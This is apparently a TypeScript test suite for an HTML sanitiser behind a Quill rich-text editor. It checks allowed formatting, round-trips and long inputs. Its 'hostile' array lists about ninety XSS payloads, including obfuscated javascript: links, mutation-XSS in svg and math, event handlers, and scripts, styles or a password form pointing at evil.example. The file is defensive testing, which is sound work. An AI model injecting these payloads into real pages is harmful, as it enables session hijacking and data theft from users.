import { setTimeout } from 'node:timers/promises';
import fc from 'fast-check';
import Quill from 'quill';
import { sanitiseRichText } from './sanitise-rich-text.ts';

const link = (href: string) => `<p><a href="${href}" rel="noopener noreferrer" target="_blank">رابط</a></p>`;

const formats: [string, string][] = [
  ...[1, 2, 3, 4, 5, 6].map((level): [string, string] => [`header ${level}`, `<h${level}>عنوان</h${level}>`]),
  ['bold', '<p><strong>نص</strong></p>'],
  ['italic', '<p><em>نص</em></p>'],
  ['underline', '<p><u>نص</u></p>'],
  ['strike', '<p><s>نص</s></p>'],
  ['all four at once', '<p><strong><em><s><u>نص</u></s></em></strong> باقي</p>'],
  ['aligned to the centre', '<p class="ql-align-center">نص</p>'],
  ['aligned to the right', '<h2 class="ql-align-right">نص</h2>'],
  ['justified', '<p class="ql-align-justify">نص</p>'],
  ['direction', '<p class="ql-direction-rtl">نص</p>'],
  ['direction and side', '<p class="ql-align-right ql-direction-rtl">نص</p>'],
  ['bullets', '<ol><li data-list="bullet">أ</li><li data-list="bullet">ب</li></ol>'],
  ['numbers', '<ol><li data-list="ordered">أ</li><li data-list="ordered" class="ql-align-center">ب</li></ol>'],
  ['http', link('http://portal.example/?a=1&amp;b=2#c')],
  ['https', link('https://portal.example/مسار')],
  ['mailto', link('mailto:a@portal.example?subject=%D8%A3')],
  ['tel', link('tel:+21321631499')],
  ['an own page', link('/posts/1')],
  ['a picture', '<p>قبل<img src="https://portal.example/a.png" alt="بحر" width="960" height="480">بعد</p>'],
  ['an own picture', `<p><img src="/media/${'0a'.repeat(16)}-960.webp"></p>`],
  ['a line break', '<p>أ<br>ب</p>'],
  ['an empty line', '<p><br></p>'],
  ['signs that mean something in HTML', '<p>1 &lt; 2 &amp; 3 &gt; 2</p>'],
];

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<template><img src=x onerror=alert(1)></template>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p class="ql-align-center evil">x</p>',
  '<p class="ui-button">x</p>',
  '<p id="root">x</p>',
  '<p dir="ltr" title="x" contenteditable="true" data-x="1">x</p>',
  '<li data-list="evil">x</li>',
  '<li data-list="bullet\u0022 onclick=alert(1) x=\u0022">x</li>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="//evil.example/x.png">',
  '<img src="/\\evil.example/x.png">',
  '<img src="blob:https://portal.example/1">',
  '<img src="file:///etc/passwd">',
  '<img srcset="https://evil.example/x 1x" src="https://portal.example/x">',
  '<img src="https://portal.example/x" width="100%" height="expression(alert(1))">',
  '<img alt="` onerror=alert(1) x=`" src="https://portal.example/`onerror=alert(1)`">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil.example" ping="https://evil.example" download onfocus=alert(1) autofocus>x</a>',
  '<a href="https://portal.example" target="_self" rel="opener">x</a>',
  '<a href="https://portal.example/\u0022 onmouseover=\u0022alert(1)">x</a>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option onclick=alert(1)>x</option></select>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example"><input name=password></form>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<b <script>alert(1)</script>0',
  '<a href="https://portal.example"><img src=x onerror=alert(1)></a>',
  '<p __proto__="x" constructor="y">x</p>',
  `${'<p>'.repeat(200)}<script>alert(1)</script>`,
  `${'<ol><li>'.repeat(200)}<img src=x onerror=alert(1)>`,
];

const classes = /^ql-(align-(left|center|right|justify)|direction-rtl)$/;
const attributes: Record<string, (value: string, tag: string) => boolean> = {
  class: (value) => value.split(' ').every((name) => classes.test(name)),
  'data-list': (value, tag) => tag === 'li' && /^(ordered|bullet)$/.test(value),
  href: (value, tag) => tag === 'a' && /^(https?:|mailto:|tel:|\/(?![/\\]))/i.test(value) && !/[\t\n]/.test(value),
  rel: (value) => value === 'noopener noreferrer',
  target: (value) => value === '_blank',
  src: (value, tag) => tag === 'img' && /^(https?:|\/(?![/\\]))/i.test(value),
  alt: (_, tag) => tag === 'img',
  width: (value) => /^\d{1,4}$/.test(value),
  height: (value) => /^\d{1,4}$/.test(value),
};
const tags = new Set('p h1 h2 h3 h4 h5 h6 li ol ul br strong em u s a img'.split(' '));

/** What a browser makes of it, and what it makes of that again. */
function violationsOf(html: string) {
  const first = new DOMParser().parseFromString(html, 'text/html').body;
  const second = new DOMParser().parseFromString(first.innerHTML, 'text/html').body;
  return [first, second].flatMap((body) =>
    [...body.querySelectorAll('*')].flatMap((element) => {
      const tag = element.localName;
      if (!tags.has(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') return [`<${tag}>`];
      return [...element.attributes]
        .filter(({ name, value }) => !(Object.hasOwn(attributes, name) && attributes[name]?.(value, tag)))
        .map(({ name, value }) => `<${tag} ${name}="${value}">`);
    }),
  );
}

test.each(formats)('what the editor writes stays as it is: %s', (_, html) => {
  expect(sanitiseRichText(html)).toBe(html);
});

test.each(hostile)('nothing of it but text and formats gets through: %s', (html) => {
  const clean = sanitiseRichText(html);
  expect(violationsOf(clean)).toEqual([]);
  expect(sanitiseRichText(clean)).toBe(clean);
});

test('the test itself finds what is hostile', () => {
  const found = hostile.filter((html) => violationsOf(html).length > 0);
  expect(hostile.length).toBeGreaterThanOrEqual(60);
  expect(found.length).toBeGreaterThan(hostile.length * 0.8);
});

test.each([
  ['<b>أ</b><i>ب</i><strike>ج</strike><del>د</del>', '<strong>أ</strong><em>ب</em><s>ج</s><s>د</s>'],
  ['<div><span style="color:red">نص</span></div>', 'نص'],
  ['<p><a>رابط</a> <a href="#x">آخر</a></p>', '<p>رابط آخر</p>'],
  ['<blockquote><code>نص</code></blockquote>', 'نص'],
])('what another editor wrote keeps what there is a format for: %s', (html, expected) => {
  expect(sanitiseRichText(html)).toBe(expected);
});

const anchor = (href: string) => `<a href="${href}" rel="noopener noreferrer" target="_blank">`;

test.each([
  ['<p><a>أ</a> <a href="/1">ب</a> ج</p>', `<p>أ ${anchor('/1')}ب</a> ج</p>`],
  ['<p><a>أ</a><br>ب<img>ج<strong>د</strong></p>', '<p>أ<br>بج<strong>د</strong></p>'],
])('what follows a link or a picture without an address stays whole: %s', (html, expected) => {
  expect(sanitiseRichText(html)).toBe(expected);
});

test.each([
  [
    '<a href="/1">أ<strong>ب<a href="/2">ج',
    `${anchor('/1')}أ<strong>ب</strong></a><strong>${anchor('/2')}ج</a></strong>`,
  ],
  ['<p>أ<strong>ب<p>ج</p></strong></p>', '<p>أ<strong>ب</strong></p><strong><p>ج</p></strong>'],
  ['<p>أ<span><h2>ب</h2></span></p>', '<p>أ</p><h2>ب</h2>'],
  ['<ol><li>أ<strong><li>ب</ol>', '<ol><li>أ</li><strong><li>ب</li></strong></ol>'],
])('an element ends where a browser ends it: %s', (html, expected) => {
  expect(sanitiseRichText(html)).toBe(expected);
});

test('a reader sees the text that is stored, however the tags of its author stood in each other', () => {
  const tags = 'p h1 h2 ol ul li strong em span iframe'.split(' ').flatMap((tag) => [`<${tag}>`, `</${tag}>`]);
  const sent = fc.array(fc.constantFrom('نص', '<br>', '<a>', '<img>', '<a href="/x">', '</a>', ...tags));
  fc.assert(
    fc.property(sent, (pieces) => {
      const clean = sanitiseRichText(pieces.join(''));
      expect(new DOMParser().parseFromString(`<body>${clean}`, 'text/html').body.innerHTML).toBe(clean);
      expect(sanitiseRichText(clean)).toBe(clean);
    }),
  );
});

test.each([...formats, ['all of them', formats.map(([, html]) => html).join('')]])(
  'what the editor makes of a kept text is kept as it is: %s',
  (_, html) => {
    const quill = new Quill(document.createElement('div'));
    quill.clipboard.dangerouslyPasteHTML(html);
    const written = sanitiseRichText(quill.root.innerHTML);
    const again = new Quill(document.createElement('div'));
    again.clipboard.dangerouslyPasteHTML(written);
    expect(again.getContents()).toEqual(quill.getContents());
    expect(sanitiseRichText(again.root.innerHTML)).toBe(written);
  },
);

// read again for each character, these would take minutes: the runner rejects them once the test has yielded
test.each([
  ['angle brackets', '<'.repeat(300_000), '&lt;'.repeat(300_000)],
  ['links that lead nowhere', '<a>x</a>'.repeat(37_500), 'x'.repeat(37_500)],
  [
    'links in links',
    '<a href="/x"><p><a href="/x">x</a></p></a>'.repeat(7_000),
    `<p>${anchor('/x')}x</a></p>`.repeat(7_000),
  ],
  ['images of nothing', '<img>'.repeat(60_000), ''],
  ['attributes', `<p ${'a=1 '.repeat(75_000)}>x`, '<p>x</p>'],
  ['open comments', '<!--'.repeat(75_000), ''],
  ['entities', '&amp;'.repeat(60_000), '&amp;'.repeat(60_000)],
])('%s to the bound of length are written like a few of them', async (_, html, written) => {
  expect(sanitiseRichText(html) === written).toBe(true);
  await setTimeout();
});
